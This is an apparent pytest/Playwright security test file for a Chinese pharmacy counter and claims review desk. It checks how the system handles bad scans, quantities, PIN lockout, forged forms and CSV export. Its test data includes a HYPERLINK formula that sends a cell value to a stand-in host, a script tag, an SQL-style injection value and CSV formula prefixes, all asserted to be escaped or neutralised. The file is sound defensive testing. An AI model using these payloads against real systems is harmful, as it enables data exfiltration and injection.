"""The counter page and the review desk attacked as a hurried clerk and a suspicious reviewer would, in Debian's
Chromium at both counter screen sizes: truncated and unknown scans, bad quantities and prices, double presses,
a locked PIN, a card pulled mid-visit, 清空 during a search; on the desk, forms posted by hand, whitespace notes,
markup in notes, garbage filters and a CSV export that a spreadsheet must not execute.
Screenshots (viewport) go to test-artifacts/counter/attack-*.png.
"""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest
import trio

from harness.demo import CLERK, ITEMS, ITEMS_FUND, ZHANGSAN, wait_for

from .test_counter_keyboard import AMOXICILLIN, IN_VIEW, VIEWPORTS, _cart_names, _page, _scan, _shot

pytestmark = pytest.mark.browser
PREFIX_OF_TWO = "HEALTH-SUPP-000"            # HEALTH-SUPP-0001 and -0002: a truncated scan


def _error(page) -> str:
    page.wait_for_selector("#error.show")
    return page.inner_text("#error")


def _scans(url: str, size: str) -> dict:
    from playwright.sync_api import sync_playwright

    got: dict = {}
    with sync_playwright() as p:
        browser, page = _page(p, url, size)
        try:
            _scan(page, "6901234567892")                     # a code the catalogue does not know
            got["unknown"] = _error(page)
            got["unknown_in_view"] = page.evaluate(IN_VIEW, "#error")
            got["unknown_cart"] = _cart_names(page)
            page.fill("#search", "")
            _scan(page, PREFIX_OF_TWO)                       # matches two items: adding either is a guess
            page.wait_for_timeout(600)
            got["prefix_cart"] = _cart_names(page)
            got["prefix_error"] = page.inner_text("#error") if page.locator("#error.show").count() else ""
            _shot(page, f"attack-{size}-prefix")
            page.keyboard.press("ArrowDown")                 # a deliberate choice: the second one
            page.keyboard.press("Enter")
            page.wait_for_selector("#cart tbody tr")
            got["chosen_cart"] = _cart_names(page)
            page.keyboard.press("F8")
            page.keyboard.type("a")                          # 清空 while the search is pending
            page.keyboard.press("F8")
            page.wait_for_timeout(800)
            got["after_clear_results"] = page.locator("#results li").count()
            got["after_clear_cart"] = _cart_names(page)
            got["after_clear_focus"] = page.evaluate("document.activeElement.id")
        finally:
            browser.close()
    return got


@pytest.mark.parametrize("size", list(VIEWPORTS))
async def test_unknown_and_truncated_scans_add_nothing(stack, size):
    got = await trio.to_thread.run_sync(_scans, stack.daemon.url, size)
    assert "没有找到" in got["unknown"] and got["unknown_in_view"] and got["unknown_cart"] == []
    assert got["prefix_cart"] == [], "a code matching two items must not add one of them"
    assert "2" in got["prefix_error"] and "选择" in got["prefix_error"], got["prefix_error"]
    assert len(got["chosen_cart"]) == 1
    assert got["after_clear_results"] == 0 and got["after_clear_cart"] == [] and got["after_clear_focus"] == "search"


BAD_QUANTITIES = ["0", "-1", "1e3", "１", "0.0000001", "", "abc"]


def _quantities(url: str, size: str) -> dict:
    from playwright.sync_api import sync_playwright

    got: dict = {"bad": {}}
    with sync_playwright() as p:
        browser, page = _page(p, url, size)
        try:
            _scan(page, AMOXICILLIN)
            page.wait_for_selector("#cart tbody tr")
            for q in BAD_QUANTITIES:
                page.fill("#cart tbody tr .cnt", q)
                page.keyboard.press("Enter")
                page.keyboard.press("F2")
                text = _error(page)
                got["bad"][q] = (text, page.evaluate(IN_VIEW, "#error"), page.locator("#split:not(.hidden)").count())
            _shot(page, f"attack-{size}-bad-quantity")
            page.fill("#cart tbody tr .cnt", "99999999")
            page.keyboard.press("Enter")
            page.keyboard.press("F2")
            got["huge_first"] = _error(page)
            page.keyboard.press("F2")                        # the clerk insists: the counter answers, in Chinese
            page.wait_for_timeout(800)
            got["huge_second"] = page.inner_text("#error") if page.locator("#error.show").count() else ""
            got["huge_split"] = page.locator("#split:not(.hidden)").count()
            page.fill("#cart tbody tr .cnt", "1")
            page.fill("#cart tbody tr .price", "¥12,800,000.00")
            page.keyboard.press("Enter")
            got["price_total"] = page.inner_text("#total")
            page.keyboard.press("F2")
            got["price_first"] = _error(page)
            _shot(page, f"attack-{size}-huge-price")
            page.keyboard.press("F2")
            page.wait_for_timeout(800)
            got["price_second"] = page.inner_text("#error") if page.locator("#error.show").count() else ""
            got["price_split"] = page.locator("#split:not(.hidden)").count()
        finally:
            browser.close()
    return got


@pytest.mark.parametrize("size", list(VIEWPORTS))
async def test_bad_quantities_and_prices_are_refused_by_row_in_chinese(stack, size):
    before = stack.daemon.counter.journal.count()
    got = await trio.to_thread.run_sync(_quantities, stack.daemon.url, size)
    for q, (text, in_view, split) in got["bad"].items():
        assert "第1行" in text and "数量" in text and in_view and split == 0, (q, text)
    assert "异常大" in got["huge_first"] and "异常大" in got["price_first"]
    assert "12,800,000.00" in got["price_total"]
    for key in ("huge", "price"):                            # refused (or settled) with a Chinese message
        second = got[f"{key}_second"]
        assert got[f"{key}_split"] == 1 or any("\u4e00" <= ch <= "\u9fff" for ch in second), (key, second)
        assert "invalid" not in second and "Error" not in second, second
    assert stack.daemon.counter.journal.count() == before     # nothing journaled by any of it


def _double(url: str, size: str, how: str) -> str:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser, page = _page(p, url, size)
        try:
            _scan(page, AMOXICILLIN)
            page.wait_for_selector("#cart tbody tr")
            page.keyboard.press("F2")
            page.wait_for_selector("#split:not(.hidden)")
            if how == "click":
                page.dblclick("#confirm")
            else:
                page.keyboard.press("F4")
                page.keyboard.press("F4")
                page.keyboard.press("Enter")
            page.wait_for_url("**/receipt/*")
            page.wait_for_selector("#seq")
            return page.inner_text("#seq")
        finally:
            browser.close()


@pytest.mark.parametrize("how", ["click", "keys"])
async def test_confirm_pressed_twice_journals_one_settlement(stack, how):
    before = stack.daemon.counter.journal.count()
    seq = await trio.to_thread.run_sync(_double, stack.daemon.url, "1024x600", how)
    await trio.sleep(1)
    assert stack.daemon.counter.journal.count() == before + 1
    assert stack.daemon.counter.journal.get(int(seq)).kind == "settlement"


def _locked(url: str, size: str) -> dict:
    from playwright.sync_api import sync_playwright

    got: dict = {"tries": []}
    with sync_playwright() as p:
        browser, page = _page(p, url, size)
        try:
            _scan(page, AMOXICILLIN)
            page.wait_for_selector("#cart tbody tr")
            page.check("#acct")
            page.keyboard.press("F2")
            page.wait_for_selector("#split:not(.hidden)")
            page.focus("#pin")
            page.keyboard.press("Enter")                     # an empty PIN
            got["empty"] = _error(page)
            for _ in range(3):
                page.keyboard.type("000000")
                page.keyboard.press("Enter")
                page.wait_for_function("document.querySelector('#confirm').disabled === false")
                page.wait_for_timeout(200)
                got["tries"].append(page.inner_text("#error"))
            got["locked_in_view"] = page.evaluate(IN_VIEW, "#error")
            _shot(page, f"attack-{size}-pin-locked")
            page.wait_for_timeout(1500)                      # a card refresh or two
            got["acct_checked"] = page.is_checked("#acct")
            got["acct_enabled"] = page.is_enabled("#acct")
            got["card"] = page.inner_text("#card")
        finally:
            browser.close()
    return got


@pytest.mark.parametrize("size", list(VIEWPORTS))
async def test_a_locked_pin_is_said_in_view_and_the_account_is_no_longer_offered(stack, size):
    got = await trio.to_thread.run_sync(_locked, stack.daemon.url, size)
    assert "密码" in got["empty"]
    assert "2" in got["tries"][0] and "1" in got["tries"][1]
    assert "锁定" in got["tries"][2] and "0 次" not in got["tries"][2], got["tries"]
    assert got["locked_in_view"]
    assert not got["acct_checked"] and not got["acct_enabled"]
    assert "锁定" in got["card"]


def _pulled(url: str, size: str, remove) -> dict:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser, page = _page(p, url, size)
        try:
            _scan(page, AMOXICILLIN)
            page.wait_for_selector("#cart tbody tr")
            page.keyboard.press("F2")
            page.wait_for_selector("#split:not(.hidden)")
            trio.from_thread.run(remove)
            page.keyboard.press("F4")                        # before the page notices the card is gone
            text = _error(page)
            try:   # the page scrolls the error into view in its next frame: allow it a moment
                page.wait_for_function(IN_VIEW, arg="#error", timeout=3000)
            except PlaywrightTimeout:
                pass   # asserted below, with what was seen
            _shot(page, f"attack-{size}-card-pulled")
            return {"error": text, "in_view": page.evaluate(IN_VIEW, "#error"), "url": page.url}
        finally:
            browser.close()


@pytest.mark.parametrize("size", list(VIEWPORTS))
async def test_a_card_pulled_mid_visit_records_nothing_and_says_so(stack, size):
    before = stack.daemon.counter.journal.count()

    async def remove():
        await stack.api.delete("/api/card/simulate")
    got = await trio.to_thread.run_sync(_pulled, stack.daemon.url, size, remove)
    assert "卡" in got["error"] and got["in_view"] and "/receipt/" not in got["url"], got
    assert stack.daemon.counter.journal.count() == before


async def test_cancelled_receipt_reprints_and_an_empty_shift_closes(stack):
    api = stack.api
    async with httpx.AsyncClient(base_url=stack.daemon.url, trust_env=False) as clerk:
        # The shift close is a named clerk's (close_shift), not the HIS token's: log in as the demo's clerk.
        assert (await clerk.post("/api/login", json=CLERK)).status_code == 200
        shift = await clerk.get("/shift")                   # no visit yet today
        assert shift.status_code == 200 and "交班" in shift.text
        bad = await clerk.get("/shift?date=2026-13-45")
        assert bad.status_code in (400, 422) and "日期" in bad.text
    r = await api.post("/api/settle", json={"req": "ATT-1", "med_type": "11", "acct_used_flag": False,
                                            "card_id": ZHANGSAN["card_id"], "items": ITEMS})
    assert r.status_code == 200, r.text
    seq = r.json()["seq"]
    card = ZHANGSAN["card_id"]
    c = await api.post(f"/api/settlements/{seq}/cancel", json={"req": "ATT-1-C", "reason": "录错", "card_id": card})
    assert c.status_code == 200, c.text
    again = await api.post(f"/api/settlements/{seq}/cancel", json={"req": "ATT-1-C2", "reason": "再撤", "card_id": card})
    # A second cancel of the same visit (another req: the clerk pressed 撤销 on a reprint) is not a second refund.
    assert again.status_code >= 400 or again.json()["seq"] == c.json()["seq"], (c.text, again.text)
    assert sum(e.kind == "cancel" for e in stack.daemon.counter.journal.entries()) == 1
    page = await api.get(f"/receipt/{seq}")
    assert page.status_code == 200 and "已撤销" in page.text


# The review desk.

async def _desk_claims(s) -> dict:
    from sync.centre import reconcile, review

    api = s.api
    eo = {"med_type": "13", "acct_used_flag": False, "observation": True, "card_id": ZHANGSAN["card_id"],
          "items": ITEMS_FUND}
    for req in ("AT-EO-1", "AT-EO-2"):
        r = await api.post("/api/claim", json={**eo, "req": req})
        assert r.status_code == 200, r.text

    async def sent():
        return (await api.get("/api/status")).json()["backlog"]["count"] == 0
    with trio.fail_after(30):  # the uplink to send both claims
        await wait_for(sent)
    await trio.to_thread.run_sync(reconcile.run_pending, s.store)
    await trio.to_thread.run_sync(lambda: s.store.accounts.add("rev", "reviewer-pass", "reviewer", now=0))
    return [c["claim_no"] for c in await trio.to_thread.run_sync(review.claims, s.store)]


async def test_review_desk_refuses_forged_forms_and_neutralises_the_csv(stack):
    from sync.centre import review

    nos = await _desk_claims(stack)
    assert len(nos) == 2
    first, second = nos
    url = stack.centre.url
    async with httpx.AsyncClient(base_url=url, trust_env=False, follow_redirects=False) as web:
        r = await web.post("/review/login", data={"name": "rev", "password": "reviewer-pass"})
        assert r.status_code in (200, 303), r.text
        # The desk's forms carry the session's CSRF token; a hand-made post copies it from the page.
        found = re.search(r'name="?csrf"? value="([0-9a-f]+)"', (await web.get("/review")).text)
        assert found, "the queue page carries the session's CSRF token"
        csrf = found.group(1)
        # Approve posted by hand, no admission field: refused by the server, the claim stays pending.
        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "approve", "confirm": "1"})
        assert r.status_code == 400 and "是否入院" in r.text
        r = await web.post(f"/review/claims/{first}/decide",
                           data={"csrf": csrf, "decision": "approve", "admitted": "maybe", "confirm": "1"})
        assert r.status_code == 400
        assert review.claim(stack.store, first)["status"] == "pending"
        # Deny with a whitespace-only note (ideographic space included): refused.
        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "deny", "note": " \t\u3000\n"})
        assert r.status_code == 400 and "理由" in r.text
        assert review.claim(stack.store, first)["status"] == "pending"
        # Markup and a formula in the note: escaped on the page, neutralised in the CSV.
        note = '=HYPERLINK("http://x.example/?"&A1,"点我"),<script>alert(1)</script>\n第二行'
        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "deny", "note": note})
        assert r.status_code == 303, r.text
        page = await web.get(f"/review/claims/{first}")
        assert "<script>alert(1)</script>" not in page.text and "&lt;script&gt;" in page.text
        queue = await web.get("/review")
        assert "<script>alert(1)</script>" not in queue.text
        for q in ("date=2026-99-99", "date=%27%3B--", "date=" + "9" * 500, "site=%00", "cause=<b>"):
            r = await web.get("/review?" + q)
            assert r.status_code == 200 and "<b>" not in r.text.split("<main", 1)[-1].replace("&lt;b&gt;", ""), q
        for formula in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
            r = await web.post(f"/review/claims/{second}/decide", data={"csrf": csrf, "decision": "deny", "note": formula})
            if r.status_code == 303:
                break
        out = await web.get("/review/claims.csv")
        assert out.status_code == 200
        rows = list(csv.reader(io.StringIO(out.text.lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert any("第二行" in cell for cell in cells)          # the note survives, newline and comma included
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), repr(cell)
